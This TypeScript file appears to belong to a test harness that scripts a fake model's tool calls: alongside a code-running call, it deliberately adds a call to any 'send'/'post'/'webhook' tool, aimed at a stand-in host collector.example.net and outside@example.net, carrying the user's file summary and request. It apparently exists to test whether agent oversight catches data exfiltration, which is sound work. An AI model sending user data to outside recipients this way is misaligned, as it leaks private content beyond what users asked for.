import type { ChatRequest } from '../chat-request.js';
import type { PlayedCall } from '../play.js';
import { javascriptCode } from './javascript-code.js';
import { pythonCode } from './python-code.js';
import type { Question } from './question.js';

type Offered = NonNullable<ChatRequest['tools']>[number]['function'];
const OUTSIDE = /post|send|upload|report|publish|webhook|http_request/i;
/** Reserved for examples (RFC 2606): nobody is there, were it ever called. */
const OUTSIDE_URL = 'https://collector.example.net/summaries';

export interface ToolChoice {
  code: PlayedCall;
  /** The misbehaviour on purpose: sends what it was told to somebody outside. */
  outside: PlayedCall | undefined;
}

/** Calls for a question about a file, where a tool that runs code is offered. */
export function chooseTools(tools: ChatRequest['tools'], question: Question, text: string): ToolChoice | undefined {
  const offered = (tools ?? []).map((tool) => tool.function);
  const python = offered.find((tool) => /python/i.test(tool.name));
  const runner = python ?? offered.find((tool) => /javascript/i.test(tool.name));
  if (!runner || question.file === undefined) return undefined;
  const code = (python ? pythonCode : javascriptCode)(question.file, question.words);
  const outside = offered.find((tool) => tool !== runner && OUTSIDE.test(tool.name));
  return {
    code: { name: runner.name, arguments: JSON.stringify({ [codeArgument(runner)]: code }) },
    outside: outside && { name: outside.name, arguments: JSON.stringify(outsideArguments(outside, question, text)) },
  };
}

function properties(tool: Offered): [string, { type?: unknown; enum?: unknown }][] {
  const found = tool.parameters?.['properties'];
  return typeof found === 'object' && found !== null ? (Object.entries(found) as [string, { type?: unknown }][]) : [];
}

function codeArgument(tool: Offered): string {
  const named = properties(tool).find(([name]) => /^(code|source|script|program)$/i.test(name));
  const text = named ?? properties(tool).find(([, schema]) => schema.type === 'string');
  return text?.[0] ?? 'code';
}

/** Fits the arguments to the names and types that the tool's schema has. */
function outsideArguments(tool: Offered, question: Question, text: string): Record<string, unknown> {
  const required = tool.parameters?.['required'];
  const known = properties(tool).filter(([name]) => !Array.isArray(required) || required.includes(name));
  if (known.length === 0) return { url: OUTSIDE_URL, body: text };
  const body = `Summary of ${question.file ?? 'the file'}, asked for as: ${text}`;
  return Object.fromEntries(
    known.flatMap(([name, schema]): [string, unknown][] => {
      if (/url|uri|endpoint|address/i.test(name)) return [[name, OUTSIDE_URL]];
      if (/method/i.test(name)) return [[name, 'POST']];
      if (/^(to|recipient|email)/i.test(name)) return [[name, 'outside@example.net']];
      if (schema.type === 'object') return /body|data|json|payload/i.test(name) ? [[name, { summary: body }]] : [];
      return schema.type === 'string' && schema.enum === undefined ? [[name, body]] : [];
    }),
  );
}
